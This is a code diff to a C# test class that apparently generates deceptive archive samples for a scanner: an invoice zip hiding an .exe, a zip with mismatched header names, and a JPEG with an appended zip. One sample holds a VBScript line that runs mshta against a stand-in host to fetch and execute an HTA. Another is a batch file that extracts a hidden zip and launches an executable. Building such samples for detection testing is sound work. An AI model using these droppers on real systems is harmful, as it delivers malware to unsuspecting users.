@@ -77,14 +77,14 @@ public sealed class ArchiveThatContradictsItself : SixthRound
     /// <inheritdoc/>
     public override IEnumerable<(string Name, byte[] Content)> Variants()
     {
-        yield return ("SHIPPING_INV_PL_BL.zip", [.. InertFiles.Zip(("order.jpg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF\0"u8, .. new byte[120], 0xFF, 0xD9])), .. InertFiles.Zip(("SHIPPING_INV_PL_BL.exe", Carriers.Program()))]);
+        yield return ("SHIPPING_INV_PL_BL.zip", [.. InertFiles.Zip(("order.jpg", Carriers.Photograph([], []))), .. InertFiles.Zip(("SHIPPING_INV_PL_BL.exe", Carriers.Program()))]);
 
         // The local header says that it is a text, the directory that it is a program.
         var mixed = InertFiles.Zip(("statement_2026.exe", Carriers.Program()));
         Encoding.ASCII.GetBytes("statement_2026.txt").CopyTo(mixed, mixed.AsSpan().IndexOf("statement_2026.exe"u8));
         yield return ("statement_2026.zip", mixed);
 
-        yield return ("Foto_Unfall.jpg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF\0"u8, 1, 1, 0, 0, 72, 0, 72, 0, 0, .. new byte[400], 0xFF, 0xD9, .. InertFiles.Zip(("Foto_Unfall.vbs", Dos("CreateObject(\"WScript.Shell\").Run \"mshta http://203.0.113.171/f.hta\", 0")))]);
+        yield return ("Foto_Unfall.jpg", Carriers.Photograph([], InertFiles.Zip(("Foto_Unfall.vbs", Dos("CreateObject(\"WScript.Shell\").Run \"mshta http://203.0.113.171/f.hta\", 0")))));
 
         // A whole archive lies between the last member and the directory, and the end's offset steps over it.
         var outer = InertFiles.Zip(("notes.txt", Dos("Run: more than meets the eye\n")), ("open.bat", Dos("@echo off\ncopy /b \"%~dp0docs.zip\" %temp%\\d.zip >nul & tar -xf %temp%\\d.zip -C %temp% & start %temp%\\viewer.exe\n")));
